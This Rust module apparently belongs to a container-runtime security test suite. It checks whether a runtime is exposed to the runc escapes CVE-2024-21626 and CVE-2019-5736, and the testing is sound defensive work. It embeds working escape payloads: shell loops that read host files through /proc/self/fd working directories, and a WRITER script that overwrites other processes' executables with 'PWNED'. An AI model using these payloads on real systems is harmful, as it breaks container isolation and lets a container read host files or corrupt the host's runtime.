//! I2: descriptors and the runtime's own binary, as a container can get at them.

use std::fs;
use std::path::PathBuf;
use std::time::{Duration, Instant};

use anyhow::{Context as _, Result, ensure};
use serde_json::json;

use super::stage::{Set, Stage};
use super::{Case, Verdict};
use crate::bundle::Runtime;

pub(super) fn cases() -> Vec<Case> {
    let case = |cve, tried, run| Case { cve, tried, run };
    vec![
        case(
            "runc 2024-21626",
            "cwd /proc/self/fd/3..64 on run",
            cwd_on_run,
        ),
        case(
            "runc 2024-21626",
            "cwd /proc/self/fd/3..64 on exec, by flag and by symlink",
            cwd_on_exec,
        ),
        case(
            "runc 2024-21626 class",
            "descriptors that the runtime was started with, seen inside run and exec",
            inherited,
        ),
        case(
            "runc 2019-5736",
            "entrypoints `#!/proc/self/exe` while the container writes to every /proc/PID/exe",
            overwritten,
        ),
    ]
}

/// Starts the runtime with directories of the host at the descriptors 3 to 9.
const WITH_FILES: &str = "exec 3</ 4</ 5</sys/fs/cgroup 6</ 7</etc 8</ 9</; exec \"$0\" \"$@\"";

/// Reads the canary by way of the working directory.
fn climb(set: &Set) -> String {
    let secret = set.canary.join("secret");
    let secret = secret
        .strip_prefix("/")
        .unwrap_or(&secret)
        .display()
        .to_string();
    format!(
        "for up in . .. ../.. ../../.. ../../../..; do cat $up/{secret}; done 2>/dev/null; true"
    )
}

fn reached(set: &Set, out: &str, fd: usize) -> Option<String> {
    let reached = out.contains("canary secret");
    reached
        .then(|| format!("fd {fd}: a host file was read by way of the working directory"))
        .or_else(|| set.harm().ok().flatten())
}

fn cwd_on_run(stage: &Stage<'_>) -> Result<Verdict> {
    let mut ran_any = 0;
    for fd in 3..=64 {
        for inherited in [false, true] {
            // Beyond 9 the shell opens nothing: those would be the runtime's own.
            if inherited && fd > 12 {
                continue;
            }
            let set = stage
                .set()?
                .with("/process/cwd", json!(format!("/proc/self/fd/{fd}")));
            let text = climb(&set);
            let set = set.script(&text);
            let ran = if inherited {
                set.write_config()?;
                let bundle = set.bundle.display().to_string();
                let ran = stage.call_by(
                    &["bash", "-c", WITH_FILES],
                    &["run", "-b", &bundle, &set.id],
                )?;
                stage.delete(&set.id)?;
                ran
            } else {
                stage.run(&set)?
            };
            ran_any += usize::from(ran.status.is_some_and(|status| status.success()));
            if let Some(harm) = reached(&set, &ran.out, fd) {
                return Ok(Verdict::Vulnerable(harm));
            }
        }
    }
    Ok(Verdict::Safe(format!("{ran_any} of 72 ran, none outside")))
}

fn cwd_on_exec(stage: &Stage<'_>) -> Result<Verdict> {
    let set = stage.set()?.script("sleep 600");
    let started = stage.start(&set)?;
    ensure!(
        started.status.is_some_and(|s| s.success()),
        "{}",
        started.error
    );
    let text = climb(&set);
    let mut found = None;
    for fd in 3..=64 {
        let direct = format!("/proc/self/fd/{fd}");
        let link = set.rootfs.join("mnt").join(format!("cwd{fd}"));
        std::os::unix::fs::symlink(&direct, link)?;
        for cwd in [direct, format!("/mnt/cwd{fd}")] {
            let line = ["exec", "--cwd", &cwd, &set.id, "/bin/sh", "-c", &text];
            let ran = if fd <= 12 {
                stage.call_by(&["bash", "-c", WITH_FILES], &line)?
            } else {
                stage.call(&line)?
            };
            found = found.or_else(|| reached(&set, &ran.out, fd));
        }
    }
    stage.delete(&set.id)?;
    Ok(match found {
        Some(harm) => Verdict::Vulnerable(harm),
        None => Verdict::Safe("124 tries, none outside".to_owned()),
    })
}

/// A descriptor above stdio, in what `ls -l` says of the shell's own.
fn strangers(out: &str) -> Option<String> {
    out.lines().find_map(|line| {
        let (left, target) = line.split_once(" -> ")?;
        let number: u32 = left.rsplit(' ').next()?.parse().ok()?;
        (number > 2).then(|| format!("{number} -> {target}"))
    })
}

fn inherited(stage: &Stage<'_>) -> Result<Verdict> {
    let list = "ls -l /proc/$$/fd; echo listed";
    let set = stage.set()?.script(&format!("{list}; sleep 600"));
    set.write_config()?;
    let bundle = set.bundle.display().to_string();
    let out = stage.dir().join("inherited");
    // In the background its outputs are files: pipes would stay open.
    let wrapped = format!("exec >{} 2>&1; {WITH_FILES}", out.display());
    stage.call_by(
        &["bash", "-c", &wrapped],
        &["run", "-d", "-b", &bundle, &set.id],
    )?;
    let seen = crate::wait_for("the list of files", Duration::from_secs(10), || {
        let text = fs::read_to_string(&out)?;
        Ok(text.contains("listed").then_some(text))
    });
    let line = ["exec", &set.id, "/bin/sh", "-c", list];
    let executed = stage.call_by(&["bash", "-c", WITH_FILES], &line)?;
    stage.delete(&set.id)?;
    let seen = seen?;
    ensure!(executed.out.contains("listed"), "{}", executed.error);
    for (what, text) in [("run", &seen), ("exec", &executed.out)] {
        if let Some(stranger) = strangers(text) {
            return Ok(Verdict::Vulnerable(format!("{what} has {stranger}")));
        }
    }
    Ok(Verdict::Safe("stdio alone".to_owned()))
}

/// What the container does all the time: opens whatever is executed and is not its own, and writes
/// to it once it is not executed any more.
const WRITER: &str = "while :; do for p in /proc/[0-9]*; do \
    case \"$(readlink $p/exe)\" in */busybox|'') continue;; esac; \
    (exec 9<$p/exe; echo seen >>/seen; n=0; while [ $n -lt 300 ]; do \
      (echo PWNED >/proc/self/fd/9) && break; n=$((n+1)); done) 2>/dev/null; \
    done; done";

fn overwritten(stage: &Stage<'_>) -> Result<Verdict> {
    // A copy: what is at stake is the file itself.
    let program = PathBuf::from(&stage.runtime.words(&[])[0]);
    let mine = stage.dir().join(format!("copy-of-{}", stage.runtime.name));
    fs::copy(&program, &mine)?;
    let want = fs::read(&program)?;
    let runtime = Runtime::at(
        &stage.runtime.name,
        mine.clone(),
        stage.runtime.root.clone(),
    );
    let stage = stage.with_runtime(runtime);
    let set = stage.set()?.script(WRITER);
    let entry = set.rootfs.join("entry");
    fs::write(&entry, "#!/proc/self/exe\n")?;
    use std::os::unix::fs::PermissionsExt as _;
    fs::set_permissions(&entry, fs::Permissions::from_mode(0o755))?;
    let started = stage.start(&set)?;
    ensure!(
        started.status.is_some_and(|s| s.success()),
        "{}",
        started.error
    );
    let end = Instant::now() + Duration::from_secs(stage.options.seconds.min(10));
    let mut tries = 0;
    let mut harmed = false;
    while Instant::now() < end && !harmed {
        for program in ["/entry", "/bin/true"] {
            stage.call(&["exec", &set.id, program])?;
            tries += 1;
        }
        harmed = fs::read(&mine)? != want;
    }
    let seen = fs::read_to_string(set.rootfs.join("seen")).unwrap_or_default();
    stage.delete(&set.id)?;
    // As an entrypoint too.
    let first = stage.set()?.with("/process/args", json!(["/entry"]));
    fs::copy(&entry, first.rootfs.join("entry"))?;
    stage.run(&first)?;
    harmed |= fs::read(&mine).context("the copy of the runtime")? != want;
    if harmed {
        return Ok(Verdict::Vulnerable(
            "the runtime's binary was overwritten".to_owned(),
        ));
    }
    Ok(Verdict::Safe(format!(
        "{tries} execs, the runtime was seen {} times",
        seen.lines().count()
    )))
}
